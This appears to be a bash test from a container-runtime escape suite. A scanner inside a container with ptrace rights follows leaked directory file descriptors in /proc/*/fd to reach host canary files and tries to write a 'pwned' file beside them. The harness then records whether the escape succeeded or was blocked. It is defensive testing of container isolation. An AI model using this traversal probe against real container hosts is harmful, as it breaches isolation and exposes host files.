#!/bin/bash
# Leaked host directory fds, reached through /proc/PID/fd with ptrace rights: the config grants
# CAP_SYS_PTRACE; after `create` (init blocked until `start`) a process exec'd into the
# container scans /proc/*/fd/* of every process it can see (the blocked init, other exec
# helpers entering the container: the harness keeps exec'ing `true` meanwhile, and later the
# init again while `start` runs) for directories, and walks from each one up (`<fd>/..`,
# `<fd>/../..`) looking for the canary file that sits in the runtime's --root (the parent of
# the state directory) and in $WORK; it also tries to create a file next to it.
# Escaped = the canary's content was read from inside the container, or a file was created
# in --root or $WORK.
. "$(dirname "$0")/lib.sh"

SECRET="canary-$$-$RANDOM$RANDOM"
echo "$SECRET" >"$ROOT/canary"
echo "$SECRET" >"$WORK/canary"
B=$WORK/bundle
make_bundle "$B"
add_caps "$B" CAP_SYS_PTRACE
cat >"$B/rootfs/scan.sh" <<'EOF'
exec >>/tmp/scan.out 2>&1
echo "scan: started as pid $$"
end=$(( $(date +%s) + ${1:-8} ))
seen=" "
while [ "$(date +%s)" -lt "$end" ]; do
    for f in /proc/[0-9]*/fd/*; do
        [ -d "$f" ] || continue
        t=$(readlink "$f" 2>/dev/null)
        case $seen in *" $f=$t "*) continue ;; esac
        seen="$seen$f=$t "
        echo "scan: dir fd $f -> $t"
        for up in .. ../.. ../../..; do
            if [ -f "$f/$up/canary" ]; then
                echo "scan: FOUND $f/$up/canary: $(cat "$f/$up/canary")"
                echo pwned >"$f/$up/written" 2>/dev/null && echo "scan: WROTE $f/$up/written"
            fi
        done
    done
done
echo "scan: done"
EOF

ID=$ID_PREFIX
SCAN=$B/rootfs/tmp/scan.out
: >"$SCAN"
rt create --bundle "$B" "$ID" >"$WORK/out" 2>&1 </dev/null ||
    finish error "create failed: $(oneline "$WORK/out")"
rt exec -d "$ID" sh /scan.sh 10 >"$WORK/exec.out" 2>&1 </dev/null ||
    finish error "exec -d into the created container failed: $(oneline "$WORK/exec.out")"
wait_for "$SCAN" 'scan: started' 10 || finish error "the scanner did not start: $(oneline "$WORK/exec.out")"
# Other exec helpers entering the container while the scanner looks.
for i in $(seq 1 12); do
    rt exec "$ID" sleep 0.3 >/dev/null 2>&1 </dev/null &
    rt exec "$ID" true >/dev/null 2>&1 </dev/null
    wait
    grep -q 'scan: FOUND' "$SCAN" && break
done
grep -q 'scan: FOUND' "$SCAN" || {
    rt start "$ID" >>"$WORK/out" 2>&1 || log "start failed: $(oneline "$WORK/out")"
    wait_for "$SCAN" 'scan: (FOUND|done)' 12
}
log "scanner output:"
cat "$SCAN"
if grep -qF "$SECRET" "$SCAN" || [ -e "$ROOT/written" ] || [ -e "$WORK/written" ]; then
    finish escaped "$(grep -m1 'scan: FOUND' "$SCAN" | sed 's/^scan: //')$([ -e "$ROOT/written" ] && echo "; wrote $ROOT/written")$([ -e "$WORK/written" ] && echo "; wrote $WORK/written")"
fi
grep -q 'scan: started' "$SCAN" || finish error "no scan ran"
finish blocked "$(grep -c 'scan: dir fd' "$SCAN") directory fds seen in /proc/*/fd, none leads to the host: $(grep 'scan: dir fd' "$SCAN" | sed 's/^scan: dir fd //' | head -n 4 | tr '\n' ' ')"
